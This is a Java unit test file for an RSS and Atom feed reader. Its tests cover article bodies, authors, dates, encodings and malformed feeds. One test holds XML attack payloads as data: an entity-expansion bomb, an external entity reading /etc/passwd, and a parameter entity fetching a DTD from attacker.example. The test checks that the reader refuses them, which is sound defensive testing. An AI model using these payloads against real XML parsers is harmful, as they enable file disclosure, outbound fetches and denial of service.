package org.tallywire.readers.feed;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import com.rometools.rome.feed.synd.SyndContentImpl;
import com.rometools.rome.feed.synd.SyndEntry;
import com.rometools.rome.feed.synd.SyndEntryImpl;
import com.rometools.rome.feed.synd.SyndFeed;
import com.rometools.rome.feed.synd.SyndFeedImpl;
import com.rometools.rome.io.SyndFeedOutput;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Date;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.tallywire.article.Article;
import org.tallywire.article.Published;
import org.tallywire.article.Reading;
import org.tallywire.article.UnreadableDocumentException;
import org.tallywire.readers.Inbox;

class FeedReaderTest {
    @TempDir
    Path folder;

    @Test
    void theFullContentOfAnEntryIsTheBody() throws Exception {
        Article article = only("""
                <rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
                     xmlns:dc="http://purl.org/dc/elements/1.1/">
                <channel><title>Harbour Courier</title><language>en-GB</language>
                <item><title>Ferry &amp; barge collide</title><link>https://courier.example/ferry</link>
                <guid isPermaLink="false">hc-17</guid><pubDate>Tue, 03 Nov 2026 23:30:00 -0500</pubDate>
                <dc:creator>Mara Lindqvist</dc:creator><dc:creator>Tomas Ode</dc:creator>
                <description>Twelve people were hurt.</description>
                <content:encoded><![CDATA[<p>Twelve people were hurt&nbsp;on Tuesday.</p><p>Two boats sank.</p>]]></content:encoded>
                </item></channel></rss>
                """);
        assertThat(article.body()).isEqualTo("Twelve people were hurt\u00A0on Tuesday.\n\nTwo boats sank.");
        assertThat(article.title()).isEqualTo("Ferry & barge collide");
        assertThat(article.authors()).containsExactly("Mara Lindqvist", "Tomas Ode");
        assertThat(article.publisher()).isEqualTo("Harbour Courier");
        assertThat(article.language()).isEqualTo("en-GB");
        assertThat(article.url()).isEqualTo("https://courier.example/ferry");
        assertThat(article.record()).isEqualTo("hc-17");
        assertThat(article.source()).isEqualTo("feed.xml!entry 1");
    }

    @Test
    void theDayIsThatOfTheSourcesOwnZone() throws Exception {
        Published published = Objects.requireNonNull(only("""
                <rss version="2.0"><channel><title>T</title><item><description>Three boats left.</description>
                <pubDate>Tue, 03 Nov 2026 23:30:00 -0500</pubDate></item></channel></rss>
                """).published());
        assertThat(published.day()).hasToString("2026-11-03");
        assertThat(published.time()).isEqualTo(Instant.parse("2026-11-04T04:30:00Z"));
        assertThat(published.iso()).as("the day that the source gave").isEqualTo("2026-11-03");
        assertThat(published.foundIn()).isEqualTo("feed:pubDate");
    }

    @Test
    void anAtomEntryMayHoldXhtml() throws Exception {
        Article article = only("""
                <feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr"><title>Le Phare</title><id>urn:f</id>
                <updated>2026-11-04T05:00:00Z</updated>
                <entry><id>urn:f:1</id><title type="html">Port &lt;b&gt;closed&lt;/b&gt;</title>
                <link rel="alternate" href="https://phare.example/1"/><updated>2026-11-04T05:00:00Z</updated>
                <published>2026-11-03T08:00:00Z</published><author><name>Ana Bel</name><email>a@phare.example</email></author>
                <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>The port is closed.</p>
                <p>Nine ships wait.</p></div></content></entry></feed>
                """);
        assertThat(article.body()).isEqualTo("The port is closed.\n\nNine ships wait.");
        assertThat(article.title()).isEqualTo("Port closed");
        assertThat(article.authors()).containsExactly("Ana Bel");
        assertThat(article.publisher()).isEqualTo("Le Phare");
        assertThat(article.language()).isEqualTo("fr");
        assertThat(article.url()).isEqualTo("https://phare.example/1");
        assertThat(article.published()).extracting(Published::iso).isEqualTo("2026-11-03T08:00:00Z");
    }

    @Test
    void anEntryOfRss1StandsBesideItsChannel() throws Exception {
        Article article = only("""
                <rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
                  xmlns:dc="http://purl.org/dc/elements/1.1/">
                <channel rdf:about="https://old.example/"><title>Old Post</title><link>https://old.example/</link>
                <description>d</description></channel>
                <item rdf:about="https://old.example/1"><title>Levee holds</title><link>https://old.example/1</link>
                <description>The levee held.</description><dc:date>2026-10-30</dc:date></item></rdf:RDF>
                """);
        assertThat(article.body()).isEqualTo("The levee held.");
        assertThat(article.publisher()).isEqualTo("Old Post");
        assertThat(article.published()).extracting(Published::iso).isEqualTo("2026-10-30");
    }

    @Test
    void theNameOfAnAuthorStandsInBracketsAfterTheAddress() throws Exception {
        Article article = only("""
                <rss version="2.0"><channel><title>T</title><item><author>desk@courier.example (Ida Roth)</author>
                <description>Three boats left.</description></item></channel></rss>
                """);
        assertThat(article.authors()).containsExactly("Ida Roth");
    }

    @Test
    void anEntryWithoutTextIsSetAsideAndTheOthersAreRead() throws Exception {
        List<Reading> readings = read("""
                <rss version="2.0"><channel><title>T</title>
                <item><description>Three boats left.</description></item>
                <item><title>Only a headline</title></item>
                <item><description>Two came back.</description></item></channel></rss>
                """);
        assertThat(readings).hasSize(3);
        assertThat(readings.get(1))
                .isInstanceOfSatisfying(
                        Reading.Rejected.class,
                        rejected -> assertThat(rejected.place()).isEqualTo("entry 2"));
        assertThat(readings.get(2)).isInstanceOf(Reading.Parsed.class);
    }

    @Test
    void namesOfHtmlCharactersAndLoneAmpersandsAreMended() throws Exception {
        Article article = only("""
                <rss version="0.92"><channel><title>T</title>
                <item><description>Bread &mdash; salt&nbsp;& oil &bogus; caf&eacute;</description></item></channel></rss>
                """);
        assertThat(article.body()).isEqualTo("Bread \u2014 salt\u00A0& oil &bogus; caf\u00E9");
    }

    @Test
    void aDocumentTypeIsPassedOver() throws Exception {
        Article article = only("""
                <?xml version="1.0"?>
                <!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://dtd.example/rss-0.91.dtd">
                <rss version="0.91"><channel><title>T</title>
                <item><title>A</title><description>Three boats left.</description></item></channel></rss>
                """);
        assertThat(article.body()).isEqualTo("Three boats left.");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;\">",
                "<!ENTITY secret SYSTEM \"file:///etc/passwd\">",
                "<!ENTITY % remote SYSTEM \"http://attacker.example/x.dtd\"> %remote;"
            })
    void entitiesOfItsOwnAreRefused(String declaration) {
        String feed = "<?xml version=\"1.0\"?><!DOCTYPE rss [" + declaration + "]><rss version=\"2.0\"><channel>"
                + "<title>T</title><item><description>&secret;&lol2;</description></item></channel></rss>";
        assertThatExceptionOfType(UnreadableDocumentException.class)
                .isThrownBy(() -> read(feed))
                .satisfies(e -> assertThat(e.reason()).contains("entities"));
    }

    @Test
    void entriesBeforeAFaultAreKept() throws Exception {
        String cut = """
                <rss version="2.0"><channel><title>T</title>
                <item><description>Three boats left.</description></item>
                <item><description>Two came""";
        var document = new Inbox(folder).put("feed.xml", cut.getBytes(StandardCharsets.UTF_8));
        try (var readings = new Inbox(folder).readers().getFor(document).open(document)) {
            assertThat(readings.next()).containsInstanceOf(Reading.Parsed.class);
            assertThatExceptionOfType(UnreadableDocumentException.class)
                    .isThrownBy(readings::next)
                    .satisfies(e -> assertThat(e.place()).startsWith("line 3"));
        }
    }

    @Test
    void elementsWithoutEndInEachOtherAreRefused() {
        String deep = "<rss version=\"2.0\"><channel>" + "<a>".repeat(100_000);
        assertThatExceptionOfType(UnreadableDocumentException.class)
                .isThrownBy(() -> read(deep))
                .satisfies(e -> assertThat(e.reason()).contains("deep"));
    }

    @Test
    void aFeedWithoutEntriesIsSetAside() {
        assertThatExceptionOfType(UnreadableDocumentException.class)
                .isThrownBy(() -> read("<rss version=\"2.0\"><channel><title>T</title></channel></rss>"))
                .satisfies(e -> assertThat(e.reason()).contains("found none"));
    }

    @Test
    void theDeclaredEncodingIsBelieved() throws Exception {
        String feed = "<?xml version='1.0' encoding='windows-1251'?><rss version='2.0'><channel><title>T</title>"
                + "<item><description>Три лодки ушли.</description></item></channel></rss>";
        Article article = new Inbox(folder).article("feed.xml", feed.getBytes(Charset.forName("windows-1251")));
        assertThat(article.body()).isEqualTo("Три лодки ушли.");
    }

    @ParameterizedTest
    @ValueSource(strings = {"rss_0.92", "rss_0.93", "rss_0.94", "rss_1.0", "rss_2.0", "atom_0.3", "atom_1.0"})
    void whatRomeWritesIsRead(String type) throws Exception {
        SyndFeed feed = new SyndFeedImpl();
        feed.setFeedType(type);
        feed.setTitle("Harbour Courier");
        feed.setLink("https://courier.example/");
        feed.setDescription("News of the harbour");
        feed.setUri("urn:feed");
        feed.setEntries(List.of(entry(1), entry(2)));
        List<Reading> readings = read(new SyndFeedOutput().outputString(feed));
        assertThat(readings)
                .hasSize(2)
                .allSatisfy(reading -> assertThat(reading).isInstanceOfSatisfying(Reading.Parsed.class, parsed -> {
                    assertThat(parsed.article().body()).startsWith("Boats that left:");
                    assertThat(parsed.article().title()).startsWith("Report");
                    assertThat(parsed.article().publisher()).isEqualTo("Harbour Courier");
                }));
    }

    private static SyndEntry entry(int number) {
        SyndEntry entry = new SyndEntryImpl();
        entry.setTitle("Report " + number);
        entry.setLink("https://courier.example/" + number);
        entry.setUri("urn:entry:" + number);
        entry.setPublishedDate(Date.from(Instant.parse("2026-11-03T08:00:00Z")));
        SyndContentImpl text = new SyndContentImpl();
        text.setType("text/html");
        text.setValue("<p>Boats that left: " + number + "</p>");
        entry.setDescription(text);
        return entry;
    }

    private Article only(String feed) throws Exception {
        return new Inbox(folder).article("feed.xml", feed);
    }

    private List<Reading> read(String feed) throws Exception {
        return new Inbox(folder).read("feed.xml", feed.getBytes(StandardCharsets.UTF_8));
    }
}
